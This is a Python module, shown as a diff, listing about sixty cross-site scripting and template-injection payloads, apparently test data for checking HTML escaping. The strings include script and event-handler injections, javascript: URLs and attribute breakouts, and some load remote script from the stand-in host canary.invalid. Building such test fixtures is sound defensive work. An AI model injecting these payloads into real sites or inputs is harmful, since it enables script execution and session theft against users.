@@ -1,0 +1,76 @@
+"""What attackers write where a name is expected. Each would do something in a page that forgot to escape it there."""
+
+from __future__ import annotations
+
+_RUN = "alert(document.domain)"
+
+PAYLOADS = (
+    # Elements
+    f"<script>{_RUN}</script>",
+    f"<SCRIPT>{_RUN}</SCRIPT >",
+    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
+    f"<script src=data:,{_RUN}></script>",
+    "<script src=http://canary.invalid/x.js></script>",
+    f"<script type=module>{_RUN}</script>",
+    f"<img src=x onerror={_RUN}>",
+    f"<img src=x:x onerror={_RUN}//",
+    "<img src=http://canary.invalid/i.png>",
+    f"<image href=x onerror={_RUN}>",
+    f"<svg onload={_RUN}>",
+    f"<svg/onload={_RUN}//",
+    f"<svg><script>{_RUN}</script></svg>",
+    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
+    f'<svg><a xlink:href="javascript:{_RUN}"><text y=20>x</text></a></svg>',
+    "<svg><use href=data:image/svg+xml;base64,PHN2Zz4= /></svg>",
+    f"<body onload={_RUN}>",
+    f"<iframe src=javascript:{_RUN}></iframe>",
+    f'<iframe srcdoc="<script>{_RUN}</script>"></iframe>',
+    "<iframe src=http://canary.invalid/></iframe>",
+    f"<object data=javascript:{_RUN}></object>",
+    f"<embed src=javascript:{_RUN}>",
+    f"<video><source onerror={_RUN}></video>",
+    f"<audio src=x onerror={_RUN}></audio>",
+    f"<details open ontoggle={_RUN}>x</details>",
+    f"<input autofocus onfocus={_RUN}>",
+    f"<select autofocus onfocus={_RUN}></select>",
+    f"<marquee onstart={_RUN}>x</marquee>",
+    f"<a href=javascript:{_RUN}>x</a>",
+    "<a href=data:text/html,x>x</a>",
+    f"<form action=javascript:{_RUN}><input type=submit></form>",
+    f"<button formaction=javascript:{_RUN}>x</button>",
+    f"<math><mtext></mtext><mi xlink:href=javascript:{_RUN}>x</mi></math>",
+    "<link rel=stylesheet href=http://canary.invalid/x.css>",
+    "<style>@import 'http://canary.invalid/x.css';</style>",
+    "<style>body{background:url(http://canary.invalid/x)}</style>",
+    "<base href=http://canary.invalid/>",
+    "<meta http-equiv=refresh content='0;url=http://canary.invalid/'>",
+    f"<template><script>{_RUN}</script></template>",
+    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
+    # Out of an attribute, an element, a comment
+    f'"><script>{_RUN}</script>',
+    f"'><script>{_RUN}</script>",
+    f'" onmouseover={_RUN} x="',
+    f"' onmouseover={_RUN} x='",
+    f'" autofocus onfocus={_RUN} x="',
+    f"</title><script>{_RUN}</script>",
+    f"</code></td></table><script>{_RUN}</script>",
+    f"</pre><img src=x onerror={_RUN}>",
+    f"</text></svg><img src=x onerror={_RUN}>",
+    f"--><script>{_RUN}</script>",
+    f"]]><script>{_RUN}</script>",
+    # Addresses
+    f"javascript:{_RUN}",
+    f"JaVaScRiPt:{_RUN}",
+    f"data:text/html,<script>{_RUN}</script>",
+    "vbscript:msgbox(1)",
+    "http://canary.invalid/",
+    "//canary.invalid/x.js",
+    # Templates and encodings
+    "{{ 7 * 7 }}{% for x in cycler.__init__.__globals__ %}{% endfor %}",
+    "{0.__class__}{protection.kept}%s%n",
+    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
+    f"&#60;img src=x onerror={_RUN}&#62;",
+    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
+)
+
+assert len(set(PAYLOADS)) >= 60
